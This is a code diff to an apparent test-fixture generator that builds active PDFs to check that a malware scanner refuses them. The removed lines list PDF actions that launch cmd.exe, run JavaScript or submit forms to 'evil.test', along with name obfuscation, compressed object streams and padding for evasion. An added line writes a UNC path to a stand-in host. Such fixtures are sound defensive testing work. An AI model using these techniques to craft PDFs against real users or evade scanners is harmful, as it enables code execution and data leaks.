@@ -2,6 +2,7 @@ import { deflateSync } from 'node:zlib';
 import type { Random } from '../../db/seed/random.ts';
 import { signature } from '../local-clamd.ts';
 import { type Harmless, type MakeHostileFile, noise } from './hostile-file.ts';
+import { carriers, obfuscations, techniques, writeAddress } from './pdf-techniques.ts';
 
 /** Kept byte for byte, and handed out as nothing but a PDF. */
 const shownOnly: Harmless = (_kept, { mediaType, fileName }) =>
@@ -16,34 +17,15 @@ export const pdf = (random: Random, ...parts: readonly (string | Buffer)[]): Buf
     ].map((part) => Buffer.from(part as string, 'latin1')),
   );
 
-/** A name of PDF with some of its letters written as numbers. */
-const spelt = (random: Random, name: string): string =>
-  [...name].map((letter) => (random.chance(0.3) ? `#${letter.charCodeAt(0).toString(16)}` : letter)).join('');
-
-const deeds = [
-  'S /JavaScript /JS (app.alert(1))',
-  'S /Launch /F (cmd.exe)',
-  'Type /EmbeddedFile',
-  'Subtype /RichMedia',
-  'S /SubmitForm /F (http://evil.test)',
-  'S /ImportData /F (x.fdf)',
-];
-
-/** A PDF that does something: plainly, spelt otherwise, hidden in a stream, or packed. */
+/** A PDF that does something, in some place and hidden in some way. */
 export const activePdf: MakeHostileFile = (random) => {
-  const deed = random.pick(deeds).replace(/\/(\w+)/, (_, name: string) => `/${spelt(random, name)}`);
-  const object = `7 0 obj << /${deed} >> endobj`;
-  const packed = Buffer.concat([
-    Buffer.from('3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\n'),
-    deflateSync(`7 0 << /${deed} >>`),
-    Buffer.from('\nendstream'),
-  ]);
-  const part = random.pick([object, `stream\n${object}\nendstream`, packed]);
-  const padding = ' '.repeat(random.between(0, 70_000));
+  const [technique, place, how] = [techniques, carriers, obfuscations].map((all) => random.pick(Object.keys(all)));
+  const dictionary = obfuscations[how ?? '']?.(writeAddress(techniques[technique ?? ''] ?? '', random), random) ?? '';
+  const file = '9 0 obj (\\\\\\\\evil.test\\\\a.pdf) endobj\n';
   return {
-    what: `PDF with ${deed}`,
+    what: `PDF with ${technique} in ${place}, ${how}`,
     fileName: 'letter.pdf',
-    bytes: pdf(random, padding, part),
+    bytes: pdf(random, file, ...(carriers[place ?? '']?.(dictionary, random) ?? [])),
     refused: ['file_active'],
   };
 };
